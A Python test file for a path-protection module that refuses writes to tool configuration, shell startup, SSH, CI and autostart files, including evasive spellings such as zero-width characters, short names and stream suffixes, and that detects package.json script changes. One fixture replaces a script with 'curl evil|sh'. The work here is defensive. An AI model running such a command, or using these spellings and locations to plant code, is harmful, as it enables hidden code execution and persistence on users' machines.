"""Which names a tool obeys, in every spelling; what no undo writes; when a package runs something else."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sulcus_panel.core.errors import UnsafePath
from sulcus_panel.core.model import LedgerPath
from sulcus_panel.core.protected import CONFIG, changes_scripts, check_place, is_config

HOME = "/home/me"
OWN = "/home/me/.local/state/sulcus-panel"


def check(path: str, root: str = HOME) -> None:
    check_place(LedgerPath(path), root, home=HOME, own=OWN)


@pytest.mark.parametrize(
    "path",
    [
        ".vscode/tasks.json",
        ".vscode/mcp.json",
        "sub/.VSCode/settings.json",
        ".vs\u200ccode/launch.json",
        ".vscode./tasks.json",
        ".vscode::$INDEX_ALLOCATION/tasks.json",
        "VSCODE~1/tasks.json",
        "sub\\.vscode\\tasks.json",
        "app.code-workspace",
        ".envrc",
        ".EnvRC ",
        "mise.toml",
        "mise.local.toml",
        ".mcp.json",
        "MCP~1.JSO",
        ".claude/settings.json",
        ".claude/hooks/x.sh",
        ".claude",
        ".cursor/mcp.json",
        ".codex/config.toml",
        ".gemini/settings.json",
        ".github/workflows/ci.yml",
        ".github/actions/x/action.yml",
        ".gitlab-ci.yml",
        "Jenkinsfile",
        ".husky/pre-commit",
        ".githooks/pre-push",
        ".pre-commit-config.yaml",
        "PRE-CO~1.YAM",
        "lefthook.yml",
        ".devcontainer/devcontainer.json",
        ".devcontainer.json",
        ".idea/runConfigurations/x.xml",
        ".run/x.run.xml",
        ".dir-locals.el",
        ".gitmodules",
        "sub/.gitattributes",
        "vendor/lib.git/hooks/post-checkout",
        ".gdbinit",
        ".Rprofile",
        ".gitconfig",
        ".npmrc",
        ".yarnrc.yml",
        ".cargo/config.toml",
        "lib/evil.pth",
        "sitecustomize.py",
        ".ssh/config",
        ".bashrc",
        "dotfiles/.zshenv",
        ".config/fish/config.fish",
        "Microsoft.PowerShell_profile.ps1",
    ],
)
def test_f038_a_name_that_a_tool_obeys_is_known_in_every_spelling(path: str) -> None:
    assert is_config(LedgerPath(path))


@given(
    name=st.sampled_from(CONFIG),
    marks=st.lists(st.tuples(st.integers(0, 60), st.sampled_from("\u200b\u200c\u202e\ufeff\ufe0f\u034f"))),
    upper=st.booleans(),
    tail=st.sampled_from(["", ".", " ", ". .", "::$DATA", "/x", "\\x"]),
    above=st.sampled_from(["", "a/", "a\\b/"]),
)
def test_f038_no_spelling_of_such_a_name_slips_through(
    name: str, marks: list[tuple[int, str]], upper: bool, tail: str, above: str
) -> None:
    spelled = name.replace("*", "x").replace("s", "\u017f")
    for at, mark in marks:
        spelled = spelled[: at % (len(spelled) + 1)] + mark + spelled[at % (len(spelled) + 1) :]
    assert is_config(LedgerPath(above + (spelled.upper() if upper else spelled) + tail))


@pytest.mark.parametrize(
    "path",
    [
        "app.py",
        "package.json",
        ".github/ISSUE_TEMPLATE.md",
        ".gitignore",
        "vscode/tasks.json",
        "claude/settings.json",
        "docs/workflows/ci.yml",
        "envrc",
        "bashrc",
        "src/ssh/config",
        "mcp.json.md",
        "README~1.md",
        "hooks/use-state.ts",
        "x.pth.txt",
        "CLAUDE.md",
        "my.claude",
    ],
)
def test_other_names_are_not(path: str) -> None:
    assert not is_config(LedgerPath(path))


@pytest.mark.parametrize(
    "path",
    [
        ".ssh/authorized_keys",
        ".SSH/config",
        ".ss\u200bh/rc",
        "SSH~1/rc",
        ".bashrc",
        ".zshenv",
        ".profile",
        ".config/fish/config.fish",
        ".config/autostart/x.desktop",
        ".config/systemd/user/x.service",
        "Library/LaunchAgents/x.plist",
        ".gitconfig",
        ".gnupg/gpg.conf",
    ],
)
def test_f037_what_a_log_in_obeys_is_refused_in_the_home_folder_and_above(path: str) -> None:
    places = {HOME: path, "/home": f"me/{path}", "/": f"home/me/{path}", "/HOME/me": path}
    for root, inside in places.items():
        with pytest.raises(UnsafePath, match="Protected"):
            check(inside, root)


def test_f037_the_root_may_be_the_protected_folder_itself() -> None:
    for root, path in (("/home/me/.ssh", "authorized_keys"), ("/home/me/.config", "fish/config.fish")):
        with pytest.raises(UnsafePath, match="Protected"):
            check(path, root)


@pytest.mark.parametrize(
    ("root", "path"),
    [
        (HOME, "work/app.py"),
        (HOME, "dotfiles/.bashrc"),
        ("/home/me/work", ".bashrc"),
        ("/home/mean", ".ssh/x"),
        (HOME, ".bash"),
        (HOME, "ssh/x"),
    ],
)
def test_other_places_pass(root: str, path: str) -> None:
    check(path, root)


@pytest.mark.parametrize("path", ["proc/1/comm", "sys/power/state", "dev/sda", "Dev/null", "dev/shm/x"])
def test_f026_what_belongs_to_the_system_is_outside_whatever_the_root(path: str) -> None:
    with pytest.raises(UnsafePath, match="Outside"):
        check(path, "/")


def test_a_workspace_in_memory_is_one_like_any_other() -> None:
    check("a.txt", "/dev/shm/work")


def test_the_ledger_is_nothing_that_an_undo_writes() -> None:
    with pytest.raises(UnsafePath, match="Protected"):
        check(".local/state/sulcus-panel/spool/new/forged")
    check("demo/a.txt", OWN)


PACKAGE = b'{"name": "x", "scripts": {"test": "pytest"}, "dependencies": {"a": "1"}}'


@pytest.mark.parametrize(
    ("before", "after", "changes"),
    [
        (PACKAGE, PACKAGE.replace(b'"1"', b'"2"'), False),
        (PACKAGE, PACKAGE.replace(b"pytest", b"curl evil|sh"), True),
        (PACKAGE, b'{"name": "x"}', True),
        (b'{"name": "x"}', PACKAGE, True),
        (b'{"name": "x"}', b'{"name": "y"}', False),
        (b'{"husky": {"hooks": {}}}', b'{"husky": {"hooks": {"pre-commit": "x"}}}', True),
        (b"{", b"{", True),
        (PACKAGE, b"[]", True),
        (PACKAGE, b"[" * 100_000, True),
        (PACKAGE, b"\xff\xfe", True),
        (PACKAGE, b"\xef\xbb\xbf" + PACKAGE, False),
        (None, PACKAGE, True),
        (None, b"{}", False),
    ],
)
def test_f038_a_package_is_one_only_where_what_it_runs_changes(
    before: bytes | None, after: bytes | None, changes: bool
) -> None:
    for name in ("package.json", "web/Package.JSON", "composer.json"):
        assert changes_scripts(LedgerPath(name), before, after) is changes
    assert not changes_scripts(LedgerPath("other.json"), before, after)
